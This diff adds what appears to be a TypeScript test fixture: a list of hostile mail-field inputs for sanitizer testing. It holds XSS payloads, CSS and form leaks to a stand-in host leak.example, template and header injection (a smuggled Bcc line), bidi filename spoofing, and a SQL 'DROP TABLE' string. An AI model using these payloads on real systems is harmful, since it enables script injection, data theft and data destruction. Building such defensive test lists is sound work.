@@ -1,0 +1,45 @@
+/** What a mail may hold to do harm, for every field that ends on a card. A payload that runs would set `window.pwned`. */
+
+const seeds = [
+  "<script>window.pwned=1</script>",
+  "</p></div><script>window.pwned=1</script>",
+  '<img src=x onerror="window.pwned=1">',
+  "<svg/onload=window.pwned=1>",
+  "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+  '<math><maction actiontype="statusline" xlink:href="javascript:window.pwned=1">x</maction></math>',
+  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+  '<object data="data:text/html,<script>window.pwned=1</script>"></object>',
+  "<style>*{display:none!important}</style>",
+  '<link rel=stylesheet href="https://leak.example/x.css">',
+  '<form action="https://leak.example"><input name=q></form>',
+  '<base href="https://leak.example/">',
+  '<meta http-equiv=refresh content="0;url=https://leak.example/">',
+  '"><img src=x onerror=window.pwned=1>',
+  "'><img src=x onerror=window.pwned=1>",
+  '" onmouseover="window.pwned=1" x="',
+  "` onfocus=window.pwned=1 autofocus `",
+  '<a href="javascript:window.pwned=1">click</a>',
+  '<a href="data:text/html,<script>window.pwned=1</script>">click</a>',
+  '<a href="vbscript:window.pwned=1">click</a>',
+  '<a href="jav&#x09;ascript:window.pwned=1">click</a>',
+  '<a href="https://leak.example/phish">https://bank.example</a>',
+  '<font color="red;background:url(https://leak.example/c)">red</font>',
+  '<b style="position:fixed;inset:0;background:url(//leak.example)">over</b>',
+  "javascript:window.pwned=1",
+  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+  "&#60;img src=x onerror=window.pwned=1&#62;",
+  "{{constructor.constructor('window.pwned=1')()}}",
+  "${window.pwned=1} #{7*7} <%= 7*7 %> {%raw%}",
+  "Hello\r\nBcc: victim@leak.example\r\nX-Injected: yes",
+  "\u0000null\u0007bell\u001B[31mred\u001B[0m",
+  "\u202Eexe.fdp\u202C \u2066a\u2067b\u2069",
+  "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357".repeat(12),
+  "' OR '1'='1'; DROP TABLE contacts; --",
+];
+
+/** Each alone, inside a name, and so long that it is cut somewhere in its middle. */
+export const payloads: readonly string[] = seeds.flatMap((seed) => [
+  seed,
+  `Anna ${seed} Schmidt`,
+  `${"a".repeat(90)}${seed}`.repeat(Math.ceil(5_000 / (90 + seed.length))),
+]);
